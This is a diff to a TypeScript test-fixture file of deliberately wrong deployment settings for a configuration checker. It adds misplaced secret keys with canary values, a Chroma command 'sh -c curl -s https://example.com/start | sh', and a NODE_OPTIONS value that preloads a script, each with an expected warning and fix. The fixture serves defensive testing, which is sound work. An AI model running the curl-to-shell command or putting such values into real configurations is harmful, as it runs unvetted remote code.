@@ -1,5 +1,5 @@
 import { CANARY } from "../good-config.ts";
-import { remove, secret, type WrongSetting } from "./case.ts";
+import { remove, secret, set, type WrongSetting } from "./case.ts";
 
 /** Secrets that nobody made, and those that stand in clear. */
 export const secrets: readonly WrongSetting[] = [
@@ -24,6 +24,26 @@ export const secrets: readonly WrongSetting[] = [
     fix: secret("SHOPIFY_WEBHOOK_SECRET", "production"),
   },
   {
+    name: "key that passes row-level security where browsers read",
+    stack: "production",
+    path: ["secrets", "SUPABASE_ANON_KEY"],
+    value: `${"sb"}_secret_${CANARY}`,
+    secret: true,
+    property: "hotdash:secrets.SUPABASE_ANON_KEY",
+    says: ["is a key that passes by row-level security, where browsers read"],
+    fix: secret("SUPABASE_ANON_KEY", "production"),
+  },
+  {
+    name: "access token in the slot of the client secret",
+    stack: "staging",
+    path: ["secrets", "SHOPIFY_API_SECRET"],
+    value: `${"shpat"}_${CANARY}`,
+    secret: true,
+    property: "hotdash:secrets.SHOPIFY_API_SECRET",
+    says: ["is an access token of a shop, and no app's client secret"],
+    fix: secret("SHOPIFY_API_SECRET"),
+  },
+  {
     name: "token as a plain variable",
     stack: "staging",
     path: ["variables", "CHROMA_COLLECTION"],
@@ -40,5 +60,23 @@ export const secrets: readonly WrongSetting[] = [
     property: "hotdash:dashboard.chroma.command",
     says: ["holds the value of --token in clear"],
     fix: remove("dashboard.chroma.command"),
+  },
+  {
+    name: "a shell in the command of Chroma's group",
+    stack: "staging",
+    path: ["dashboard", "chroma", "command"],
+    value: ["sh", "-c", "curl -s https://example.com/start | sh"],
+    property: "hotdash:dashboard.chroma.command",
+    says: ["holds what only a shell reads", "npm run <script>"],
+    fix: set("dashboard.chroma.command[0]", "npm"),
+  },
+  {
+    name: "a variable that loads code",
+    stack: "staging",
+    path: ["variables", "NODE_OPTIONS"],
+    value: "--import=./start.mjs",
+    property: "hotdash:variables.NODE_OPTIONS",
+    says: ["is not a known variable"],
+    fix: remove("variables.NODE_OPTIONS"),
   },
 ];
